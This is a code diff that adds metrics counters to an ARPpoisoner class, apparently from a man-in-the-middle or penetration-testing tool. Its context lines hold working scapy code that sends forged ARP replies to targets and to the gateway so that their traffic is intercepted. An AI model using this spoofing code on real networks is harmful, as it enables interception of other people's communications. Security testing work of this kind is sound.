@@ -16,6 +16,7 @@
 # USA
 #
 
+import array
 import logging
 import threading
 from netaddr import IPNetwork, IPRange, IPAddress, AddrFormatError
@@ -25,6 +26,10 @@ from scapy.all import *
 formatter = logging.Formatter("%(asctime)s [ARPpoisoner] %(message)s", datefmt="%Y-%m-%d %H:%M:%S")
 # log = logger().setup_logger("ARPpoisoner", formatter)
 
+# Counters of the poisoner, exported by the metrics endpoint
+COUNTERS = ['rounds', 'sent', 'errors', 'unresolved']
+ROUNDS, SENT, ERRORS, UNRESOLVED = range(len(COUNTERS))
+
 class ARPpoisoner:
     name      = 'ARP'
     optname   = 'arp'
@@ -54,6 +59,7 @@ class ARPpoisoner:
         self.myip       = options.ip
         self.mymac      = options.mac
         self.arp_cache  = {}
+        self.counters   = array.array('Q', bytes(8 * len(COUNTERS)))
 
         #log.debug("gatewayip  => {}".format(self.gatewayip))
         #log.debug("gatewaymac => {}".format(self.gatewaymac))
@@ -202,10 +208,13 @@ class ARPpoisoner:
 
     def poison(self, arpmode):
         sleep(2)
+        counters = self.counters
         while self.send:
+            counters[ROUNDS] += 1
 
             if self.targets is None:
                 self.s2.send(Ether(src=self.mymac, dst='ff:ff:ff:ff:ff:ff')/ARP(hwsrc=self.mymac, psrc=self.gatewayip, op=arpmode))
+                counters[SENT] += 1
 
             elif self.targets:
                 for target in self.targets:
@@ -219,8 +228,12 @@ class ARPpoisoner:
                                 ##log.debug("Poisoning {} <-> {}".format(targetip, self.gatewayip))
                                 self.s2.send(Ether(src=self.mymac, dst=targetmac)/ARP(pdst=targetip, psrc=self.gatewayip, hwdst=targetmac, op=arpmode))
                                 self.s2.send(Ether(src=self.mymac, dst=self.gatewaymac)/ARP(pdst=self.gatewayip, psrc=targetip, hwdst=self.gatewaymac, op=arpmode))
+                                counters[SENT] += 2
                             except Exception as e:
+                                counters[ERRORS] += 1
                                 print("Exception occurred while poisoning {}: {}".format(targetip, e))
+                        else:
+                            counters[UNRESOLVED] += 1
 
             sleep(self.interval)
 